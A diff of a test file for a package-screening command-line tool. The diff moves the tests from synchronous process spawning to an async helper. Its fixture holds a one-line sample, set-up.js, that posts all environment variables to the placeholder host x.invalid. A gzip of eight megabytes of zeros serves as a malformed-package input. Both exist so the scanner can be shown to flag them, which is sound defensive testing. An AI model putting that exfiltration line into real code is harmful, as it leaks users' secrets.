@@ -1,22 +1,16 @@
 // SPDX-License-Identifier: Apache-2.0
 import assert from 'node:assert/strict'
-import { spawnSync } from 'node:child_process'
 import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs'
 import { tmpdir } from 'node:os'
 import { join } from 'node:path'
 import { after, test } from 'node:test'
 import { gzipSync } from 'node:zlib'
+import { openCommandLine } from '../../test/command-line.ts'
 
 const folder = mkdtempSync(join(tmpdir(), 'screen-'))
 after(() => rmSync(folder, { recursive: true }))
-const cli = new URL('../../bin/holdfast.js', import.meta.url).pathname
-
-function screen(...args: string[]) {
-  const { status, stdout, stderr } = spawnSync(process.execPath, [cli, 'screen', ...args], {
-    encoding: 'utf8',
-  })
-  return { status, stdout, stderr }
-}
+const commandLine = openCommandLine(folder)
+const screen = (...words: string[]) => commandLine({}, 'screen', ...words)
 
 function write(name: string, files: Record<string, string>): string {
   for (const [path, text] of Object.entries(files)) {
@@ -31,40 +25,38 @@ const thief = {
   'package/set-up.js': 'require("https").request("https://x.invalid").end(JSON.stringify(process.env))',
 }
 
-test('a folder that holds package/ is screened, in words and as JSON, and links are not followed', () => {
+test('a folder that holds package/ is screened, in words and as JSON, and links are not followed', async () => {
   const path = write('thief', thief)
   symlinkSync(path, join(path, 'package', 'loop'))
-  const told = screen(path, '--json')
-  assert.equal(told.status, 1, told.stderr)
-  const { verdict, findings } = JSON.parse(told.stdout)
+  const told = await screen(path, '--json')
+  assert.equal(told.code, 1, told.err)
+  const { verdict, findings } = JSON.parse(told.out)
   assert.equal(verdict, 'hold')
   assert.deepEqual(Object.keys(findings[0]), ['rule', 'file', 'line', 'excerpt', 'why'])
   assert.deepEqual(
     [findings[0].rule, findings[0].file, findings[0].line],
     ['environment-exfiltration', 'set-up.js', 1],
   )
-  assert.match(screen(path).stdout, /sends all environment variables[\s\S]*hold, score/)
+  assert.match((await screen(path)).out, /sends all environment variables[\s\S]*hold, score/)
 })
 
-test('what passes exits with 0, and what was there before weighs less', () => {
+test('what passes exits with 0, and what was there before weighs less', async () => {
   const clean = write('clean', {
     'package.json': '{"name":"a","version":"1.0.0"}',
     'index.js': 'exports.a = 1',
   })
-  assert.equal(screen(clean, '--json').status, 0)
+  assert.equal((await screen(clean, '--json')).code, 0)
   const path = write('thief', thief)
-  const score = (...args: string[]) => JSON.parse(screen(path, '--json', ...args).stdout).score
-  assert.ok(score('--previous', clean) > score())
-  assert.ok(score('--previous', path) < score())
+  const score = async (...words: string[]) => JSON.parse((await screen(path, '--json', ...words)).out).score
+  assert.ok((await score('--previous', clean)) > (await score()))
+  assert.ok((await score('--previous', path)) < (await score()))
 })
 
-test('bytes that are no package are held, and wrong words exit with 2', () => {
+test('bytes that are no package are held, and wrong words exit with 2', async () => {
   const path = join(folder, 'bomb.tgz')
   writeFileSync(path, gzipSync(Buffer.alloc(8_000_000)))
-  const told = screen(path, '--json')
-  assert.deepEqual([told.status, JSON.parse(told.stdout).findings[0].rule], [1, 'unreadable-package'])
-  assert.deepEqual(
-    [screen().status, screen(join(folder, 'nothing')).status, screen(folder).status],
-    [2, 2, 2],
-  )
+  const told = await screen(path, '--json')
+  assert.deepEqual([told.code, JSON.parse(told.out).findings[0].rule], [1, 'unreadable-package'])
+  for (const words of [[], [join(folder, 'nothing')], [folder]])
+    assert.equal((await screen(...words)).code, 2)
 })
